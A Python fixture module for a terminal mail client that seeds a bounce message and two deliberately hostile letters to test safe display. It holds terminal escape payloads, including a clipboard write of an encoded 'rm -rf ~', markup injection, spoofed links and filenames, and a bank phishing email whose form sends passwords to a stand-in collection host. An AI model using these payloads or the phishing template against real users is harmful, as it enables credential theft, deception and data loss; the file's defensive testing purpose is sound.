"""The letters that no content file can hold: a bounce, and two that try something."""

from __future__ import annotations

from tui_mail.model.address import Address

from .compose import Mail, message_id, moment

_BOUNCE = """\
From: Mail Delivery System <mailer-daemon@mail.example.org>
To: {owner}
Subject: Undelivered mail returned to sender
Date: {date}
Message-ID: {id}
Auto-Submitted: auto-replied
MIME-Version: 1.0
Content-Type: multipart/report; report-type=delivery-status; boundary="=_bounce_{token}"

This is a MIME-encapsulated message.

--=_bounce_{token}
Content-Type: text/plain; charset=us-ascii
Content-Description: Notification

This is the mail system at mail.example.org.

Your message could not be delivered to one recipient:

  <{recipient}>: {why}

What you wrote is attached below.

--=_bounce_{token}
Content-Type: message/delivery-status
Content-Description: Delivery report

Reporting-MTA: dns; mail.example.org
Arrival-Date: {date}

Final-Recipient: rfc822; {recipient}
Action: failed
Status: {status}
Diagnostic-Code: smtp; {why}

--=_bounce_{token}
Content-Type: text/rfc822-headers; charset=utf-8
Content-Description: Undelivered message headers

{header}
--=_bounce_{token}--
"""


def bounce(owner: str, recipient: str, header: str, when: float, *, status: str = "5.1.1", why: str = "") -> bytes:
    """What a mail system sends back. `header` is the header of the letter that could not be delivered, CRLF or LF."""
    key = f"bounce {recipient} {int(when)}"
    text = _BOUNCE.format(
        owner=owner,
        date=moment(when),
        id=message_id(key, "mail.example.org"),
        token=message_id(key, "x")[1:13],
        recipient=recipient,
        status=status,
        why=why or "550 5.1.1 No such person here",
        header=header.replace("\r\n", "\n").rstrip("\n") + "\n",
    )
    return text.replace("\n", "\r\n").encode()


def seeded_bounce(owner: str, now: float) -> Mail:
    when = int(now - 3 * 3600 - 1500)
    header = (
        f"From: Robin Marlow <{owner}>\nTo: lighthouse@keeper.example\nSubject: May we come up?\n"
        f"Date: {moment(when - 40)}\nMessage-ID: {message_id('lighthouse', 'example.org')}"
    )
    raw = bounce(owner, "lighthouse@keeper.example", header, when)
    return _ready("bounce", raw, when)


def _ready(key: str, raw: bytes, when: int) -> Mail:
    return Mail(key, Address("", ""), (), "", when, raw=raw)


def hostile(owner: str, now: float) -> list[Mail]:
    """Two letters that attack the program that shows them; neither may do anything."""
    when = int(now - 5 * 3600 - 900)
    escapes = (
        f"From: =?utf-8?B?G10wO293bmVkBxtbMzFtRnJlZSBQaG9uZRtbMG0=?= <gift@phones.example>\r\n"
        f"To: {owner}\r\n"
        "Subject: =?utf-8?B?G1sySg==?= \x1b]0;owned\x07[@click=app.quit]You won[/] \x1b[31m[b]a phone[/b]\x1b[0m\r\n"
        f"Date: {moment(when)}\r\n"
        f"Message-ID: {message_id('hostile-1', 'phones.example')}\r\n"
        "MIME-Version: 1.0\r\nContent-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
        "This letter tries things. If you can read it calmly, they failed.\r\n\r\n"
        "A new title for your window: \x1b]0;owned by a letter\x07\r\n"
        "Your clipboard: \x1b]52;c;cm0gLXJmIH4=\x07\r\n"
        "A clean screen: \x1b[2J\x1b[H\r\n"
        "Red for ever: \x1b[31m\r\n"
        "A button: [@click=app.quit]Press me[/] and an end tag without a beginning: [/oops]\r\n"
        "Backwards: \u202eexe.tnemucod\u202c and invisible: pass\u200bword\r\n"
        "A link that lies: \x1b]8;;https://evil.example/\x07https://bank.example/\x1b]8;;\x07\r\n"
    )
    later = when - 2400
    spoof = (
        "Authentication-Results: mail.example.org; spf=fail smtp.mailfrom=phones.example;\r\n"
        " dmarc=fail header.from=xn--harbur-savings-yzl.example\r\n"
        'From: "Harbour Savings Bank <no-reply@harbour-savings.example>" <security@harb\u043eur-savings.example>\r\n'
        "Reply-To: =?utf-8?Q?Harbour_Savings_Bank?= <collect@phones.example>\r\n"
        f"To: {owner}\r\n"
        "Subject: Your account is locked: confirm now\r\n"
        f"Date: {moment(later)}\r\n"
        f"Message-ID: {message_id('hostile-2', 'phones.example')}\r\n"
        "MIME-Version: 1.0\r\nContent-Type: text/html; charset=utf-8\r\nContent-Transfer-Encoding: 8bit\r\n\r\n"
        "<html><body><p>Dear customer,</p>\r\n"
        "<p>we have locked your account. Confirm who you are within an hour:</p>\r\n"
        '<p><a href="https://phones.example/collect?who=demo">https://www.harbour-savings.example/login</a></p>\r\n'
        '<form action="https://phones.example/collect"><input name="password" type="password"></form>\r\n'
        "<script>document.location='https://phones.example/'</script>\r\n"
        '<img src="https://phones.example/seen.gif" width="1" height="1">\r\n'
        "<p>Harbour Savings Bank</p></body></html>\r\n"
    )
    return [_ready("hostile-1", escapes.encode(), when), _ready("hostile-2", spoof.encode(), later)]
